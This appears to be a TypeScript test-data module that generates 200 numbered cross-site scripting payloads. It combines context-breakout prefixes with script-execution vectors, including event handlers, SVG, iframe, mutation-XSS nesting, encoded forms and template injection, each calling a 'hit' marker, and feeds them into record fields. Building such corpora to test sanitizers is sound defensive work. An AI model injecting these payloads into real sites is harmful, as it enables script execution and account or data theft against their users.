/** Ten ways out of the place where text stands: an element, an attribute, a script, a style, a comment, data. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "</script>",
  "</style>",
  "</title></textarea>",
  "-->",
  "]]>",
  "\\\"}}'",
  '"]}</noscript>',
];

/** Twenty ways to run something, each of which calls `hit` with its number. */
const WAYS_IN = [
  "<script>hit(#)</script>",
  "<ScRiPt/x>hit(#)</ScRiPt>",
  "<img src=x onerror=hit(#)>",
  "<img/src='x'\nonerror='hit(#)'>",
  "<svg onload=hit(#)>",
  "<svg><script>hit(#)</script></svg>",
  "<svg><animate onbegin=hit(#) attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit(#)>",
  '<iframe srcdoc="<script>parent.hit(#)</script>"></iframe>',
  "<iframe src=javascript:parent.hit(#)></iframe>",
  "<details open ontoggle=hit(#)><summary>x</summary></details>",
  "<input autofocus onfocus=hit(#)>",
  "<x tabindex=1 autofocus onfocus=hit(#)>x</x>",
  "<audio src=x onerror=hit(#)></audio>",
  "<video><source onerror=hit(#)></video>",
  "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=hit(#)>",
  "<link rel=stylesheet href=x onerror=hit(#)>",
  "<body onload=hit(#)><template><p></template>",
  "&lt;img src=x onerror=hit(#)&gt;\\u003cimg src=x onerror=hit(#)\\u003e%3Cimg src=x onerror=hit(#)%3E",
  "javascript:hit(#)//=HYPERLINK(hit(#)){hit(#)}{{constructor.constructor('hit(#)')()}}",
];

/** What people try to make a page run, numbered from 0; those of one way in follow each other. */
export const PAYLOADS = WAYS_IN.flatMap((wayIn) => WAYS_OUT.map((wayOut) => `${wayOut}${wayIn}`)).map(
  (payload, number) => payload.replaceAll("#", String(number)),
);

/** The same, all ways out of one way in together, as long as a line of the record may be. */
const TOGETHER = WAYS_IN.map((_, index) =>
  PAYLOADS.slice(index * WAYS_OUT.length, (index + 1) * WAYS_OUT.length)
    .join(" ")
    .slice(0, 990),
);

/** For each of so many records what its next text field holds: all payloads in turn, field by field. */
export function inTurn(records: number): (() => string)[] {
  let field = 0;
  return Array.from({ length: records }, () => () => TOGETHER[field++ % TOGETHER.length] ?? "");
}
